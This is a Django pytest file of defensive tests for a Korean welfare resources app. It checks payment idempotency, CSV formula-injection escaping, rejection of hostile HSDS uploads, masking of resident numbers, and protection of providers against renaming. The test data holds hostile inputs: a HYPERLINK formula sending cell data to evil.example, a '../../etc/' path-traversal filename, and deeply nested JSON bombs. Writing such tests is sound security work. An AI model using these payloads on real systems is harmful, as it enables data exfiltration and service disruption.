"""Hand-made requests against the resources pages, from the outside with the Django test client: amounts and months
in other digits, formulas in what ends up in an export, and what a second send of the same form does."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse

from dolbom.resources.models import Allocation, Donation, Sponsorship
from dolbom.resources.services import donations

ON = date(2026, 11, 2)


@pytest.fixture(autouse=True)
def _today(settings):
    settings.TODAY_OVERRIDE = ON


@pytest.fixture
def sponsored(ledger_city):
    city = ledger_city
    donations.start_sponsorship(
        user=city.users["district_admin"],
        donor_id=city.person_donor.pk,
        household_id=city.households[1].pk,
        monthly_won=100_000,
        starts_on=date(2026, 10, 1),
    )
    return city


@pytest.mark.parametrize(
    "month",
    [
        "２０２６-11",  # full-width digits
        "٢٠٢٦-١١",  # Arabic-Indic digits
        "2026-11\n",
        "2026-13",
        "0000-01",
        "2026-1",
    ],
)
def test_a_month_in_other_digits_never_pays_a_sponsorship_twice(client, sponsored, month):
    city = sponsored
    client.force_login(city.users["district_manager"])
    assert client.post(reverse("resources_sponsorships_pay"), {"month": "2026-11"}).status_code == 302
    assert Allocation.objects.filter(sponsorship__isnull=False).count() == 1
    response = client.post(reverse("resources_sponsorships_pay"), {"month": month})
    assert response.status_code == 422
    assert "2026-12" in response.content.decode()  # the Korean message says how to write the month
    assert Allocation.objects.filter(sponsorship__isnull=False).count() == 1
    assert Donation.objects.filter(donor=city.person_donor).count() == 1
    assert set(Allocation.objects.values_list("month", flat=True)) == {"2026-11"}


def test_a_sponsorship_month_is_paid_once_however_often_the_form_is_sent(client, sponsored):
    city = sponsored
    client.force_login(city.users["district_manager"])
    for _ in range(3):
        assert client.post(reverse("resources_sponsorships_pay"), {"month": "2026-10"}).status_code == 302
    sponsorship = Sponsorship.objects.get()
    assert sponsorship.payments.count() == 1


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "＝1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_1365_export_never_hands_a_spreadsheet_a_formula(client, ledger_city, formula):
    city = ledger_city
    client.force_login(city.users["dong_officer"])
    response = client.post(reverse("resources_volunteer_new"), {
        "name": formula, "phone": "", "dong": city.dongs[0].code, "skills": ["repairs"],
        "availability": "", "portal_id": formula[:30], "consent_on": "2026-10-01",
    })  # fmt: skip
    assert response.status_code == 302
    from dolbom.resources.models import Volunteer

    volunteer = Volunteer.objects.get()
    response = client.post(reverse("resources_volunteer_hours", args=[volunteer.pk]),
                           {"on": "2026-11-01", "minutes": "60", "activity": formula})  # fmt: skip
    assert response.status_code == 302
    response = client.post(reverse("resources_volunteer_export"), {"start": "2026-11-01", "end": "2026-11-30"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    for cell in rows[1]:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")), rows[1]
    # The text is still there to read, behind the apostrophe spreadsheets hide.
    assert rows[1][1].startswith("'") and formula.strip() in rows[1][1]


def _hsds_document(client) -> dict:
    import json
    import zipfile

    response = client.post(reverse("resources_hsds_export"))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        documents = [json.loads(archive.read(name)) for name in archive.namelist()]
    return next(doc for doc in documents if '"40"' in json.dumps(doc))  # the service with a capacity


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param(lambda doc: b"[" * 100_000 + b"]" * 100_000, id="deeply-nested"),
        pytest.param(lambda doc: b'{"a":' * 50_000 + b"1" + b"}" * 50_000, id="deeply-nested-object"),
        pytest.param(lambda doc: "서비스".encode("euc-kr"), id="not-utf8"),
        pytest.param(lambda doc: b"\xff\xfe\x00\x00", id="garbage"),
        pytest.param(lambda doc: _with_cost(doc, "1e300"), id="huge-amount"),
        pytest.param(lambda doc: _with_capacity(doc, "²"), id="superscript-capacity"),
        pytest.param(lambda doc: _with_capacity(doc, "9" * 5000), id="endless-capacity"),
        pytest.param(lambda doc: _with_capacity(doc, "٣"), id="arabic-capacity"),
    ],
)
def test_a_hostile_hsds_file_is_refused_with_a_message(client, directory_city, city, hostile):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from dolbom.resources.models import Service

    client.force_login(city.users["district_admin"])
    doc = _hsds_document(client)
    before = sorted(Service.objects.values_list("hsds_id", "capacity", "unit_won"))
    upload = SimpleUploadedFile("../../etc/evil.json", hostile(doc), "application/json")
    response = client.post(reverse("resources_hsds"), {"files": [upload]})
    assert response.status_code == 422
    assert "evil.json" in response.content.decode()
    assert sorted(Service.objects.values_list("hsds_id", "capacity", "unit_won")) == before


def _with_cost(doc: dict, amount: str) -> bytes:
    import json

    doc["cost_options"] = [{"id": doc["id"], "service_id": doc["id"], "currency": "KRW", "amount": 0}]
    return json.dumps(doc).replace('"amount": 0', f'"amount": {amount}').encode()


def _with_capacity(doc: dict, value: str) -> bytes:
    import json

    attributes = doc.get("attributes", [])
    found = [a for a in attributes if a.get("value") == "40"]
    assert found, attributes
    for attribute in found:
        attribute["value"] = value
    return json.dumps(doc).encode()


def test_numbers_typed_into_the_ledger_are_masked_on_its_pages(client, ledger_city):
    city = ledger_city
    rrn, phone = "800101-1234567", "010-9876-5432"
    client.force_login(city.users["district_manager"])
    response = client.post(reverse("resources_donation_new"), {
        "donor": city.company.pk, "kind": "cash", "received_on": "2026-11-02", "designation": "purpose",
        "purpose": f"{rrn} 학비", "amount_won": "500,000", "description": f"연락처 {phone}",
    })  # fmt: skip
    assert response.status_code == 302, response.content.decode()
    gift = Donation.objects.get()
    response = client.post(reverse("resources_allocation_new"), {
        "fund": gift.fund_id, "amount_won": "10000", "on": "2026-11-02", "programme": f"{rrn} 어르신 잔치",
        "purpose": f"{rrn} 학비",
    })  # fmt: skip
    assert response.status_code == 302, response.content.decode()
    allocation = Allocation.objects.get()
    reason = f"{rrn}에게 잘못 지급"
    assert (
        client.post(reverse("resources_allocation_reverse", args=[allocation.pk]), {"reason": reason}).status_code
        == 302
    )
    pages = [
        client.get(reverse("resources_ledger")).content.decode(),
        client.get(reverse("resources_donor", args=[city.company.pk])).content.decode(),
        client.get(reverse("resources_donation_receipt", args=[gift.pk])).content.decode(),
    ]
    for page in pages:
        assert "1234567" not in page and "9876-5432" not in page
    assert "800101-1******" in pages[0]


def test_an_hsds_file_cannot_rename_a_provider_another_district_lists(client, directory_city, city):
    import json
    import uuid as uuids

    from django.core.files.uploadedfile import SimpleUploadedFile

    from dolbom.registry.models import Agency
    from dolbom.resources.models import Organization, Service
    from tests.conftest import _user

    # District 1 lists 중앙종합사회복지관's meals; an administrator of district 2 imports a new service of that
    # provider under the provider's HSDS id, with another name and address.
    client.force_login(city.users["district_admin"])
    doc = _hsds_document(client)
    provider = Organization.objects.get(hsds_id=doc["organization"]["id"])
    before = (provider.name, provider.email, provider.website, provider.agency_id)
    from dolbom.core.roles import Role

    office = Agency.objects.create(name="강변구청", sector="public", kind="district_unit", area=city.districts[1])
    admin2 = _user("admin2", Role.DISTRICT_ADMIN, office, [city.districts[1]])
    doc["id"] = str(uuids.uuid4())
    for key in ("attributes", "service_areas", "phones", "cost_options", "schedules", "languages", "contacts"):
        doc.pop(key, None)
    doc["organization"]["name"] = "강변구청"
    doc["organization"]["website"] = "https://evil.example"
    doc["organization"]["email"] = "evil@evil.example"
    client.force_login(admin2)
    upload = SimpleUploadedFile("new.json", json.dumps(doc).encode(), "application/json")
    response = client.post(reverse("resources_hsds"), {"files": [upload]})
    assert response.status_code == 200, response.content.decode()[-3000:]
    assert Service.objects.get(hsds_id=doc["id"]).organization == provider  # linked to the provider …
    provider.refresh_from_db()
    assert (provider.name, provider.email, provider.website, provider.agency_id) == before  # … never renamed


def test_an_hsds_import_too_large_together_is_refused_before_it_is_read(client, directory_city, city):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from dolbom.resources.models import Service
    from dolbom.resources.services.hsds import MAX_DOCUMENT_BYTES

    client.force_login(city.users["district_admin"])
    body = b"{" + b" " * (MAX_DOCUMENT_BYTES - 10) + b"}"  # each just under the limit of one file
    uploads = [SimpleUploadedFile(f"s{n}.json", body, "application/json") for n in range(11)]
    response = client.post(reverse("resources_hsds"), {"files": uploads})
    assert response.status_code == 422
    assert "20MB 이하씩 나누어" in response.content.decode()
    assert Service.objects.count() == 3
